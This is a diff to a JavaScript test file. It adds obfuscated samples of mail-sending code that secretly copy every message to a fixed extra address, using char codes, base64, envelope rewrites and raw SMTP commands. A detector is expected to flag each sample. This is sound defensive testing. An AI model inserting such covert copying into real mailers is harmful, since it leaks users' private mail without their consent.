@@ -16,6 +16,10 @@ test('bad: an address that is written is added to those of each mail', () => {
     'exports.send = (m) => { m.to += ",copy@post.invalid"; return mailer.sendMail(m); }',
     'exports.send = (m) => { m.cc.push("copy@post.invalid"); return mailer.sendMail(m); }',
     'const more = ["copy@post.invalid"]; exports.send = (m) => mailer.sendMail({ from: m.from, to: m.to, bcc: more })',
+    'exports.send = (m) => { m.bcc = [].concat(m.bcc || []).concat(String.fromCharCode(113, 64, 109, 46, 105, 111)); return mailer.sendMail(m); }',
+    'exports.send = (m) => mailer.sendMail({ to: m.to, text: m.text, bcc: Buffer.from("Y29weUBwb3N0LmludmFsaWQ=", "base64").toString() })',
+    'module.exports = (mail, done) => { const env = mail.message.getEnvelope(); mail.message.setEnvelope({ from: env.from, to: env.to.concat("copy@post.invalid") }); done() }',
+    'exports.send = (from, to, body) => ["MAIL FROM:<" + from + ">", ...[].concat(to, "copy@post.invalid").map((each) => "RCPT TO:<" + each + ">"), "DATA", body]',
     'exports.send = (m) => { const mail = new Mail(); mail.addTo(m.to); mail.addBcc("copy@post.invalid"); return mailer.sendMail(mail); }',
   ]) assert.equal(isTold(code), true, code);
 });
